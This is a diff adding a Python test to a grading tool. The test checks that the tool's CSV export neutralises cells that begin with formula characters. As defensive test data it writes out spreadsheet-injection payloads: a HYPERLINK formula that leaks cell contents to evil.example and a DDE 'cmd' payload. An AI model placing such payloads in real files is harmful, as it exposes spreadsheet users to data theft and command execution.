@@ -458,6 +458,29 @@ def test_merging_a_result_twice_counts_it_once(tmp_path):
     assert gradebook_scores(root) == {"zed": 0.0}
 
 
+def test_grades_csv_cells_are_never_evaluated_by_a_spreadsheet(tmp_path):
+    """A student id or a reason starting with = + - @ is written with a leading ' (numbers stay numbers)."""
+    root = make_course(tmp_path / "course")
+    from coursetools.grade import prepare
+
+    template = prepare(root, ASSIGNMENT, tmp_path / "run")
+    payloads = {"mallory": '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1": "+cmd|' /C calc'!A0",
+                "-2+3": "-2+3", "@sum": "@SUM(A1:A9)", "tab": "\t=1+1"}
+    for student, reason in payloads.items():
+        merge(root, template.course_id, Result(Outcome(ASSIGNMENT, student, "rejected", max_score=10.0,
+                                                       reason=reason)))
+    rows = list(csv.reader(open(export(root, say=quiet))))
+    for row in rows[1:]:
+        for cell in row:
+            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                float(cell)  # only a number may start like a formula
+    by_id = {r[3]: r for r in rows[1:]}
+    assert set(by_id) == {"mallory", "'=1+1", "'-2+3", "'@sum", "tab"}
+    assert by_id["mallory"][-1] == "'" + payloads["mallory"] and by_id["'@sum"][-1] == "'@SUM(A1:A9)"
+    assert by_id["tab"][-1] == "'\t=1+1"
+    assert not list((root).glob(".grades.csv.*"))  # written whole, then put in place
+
+
 # ----------------------------------------------------------------------------------------------
 # Interrupted and resumed: nothing lost, nothing counted twice.
 
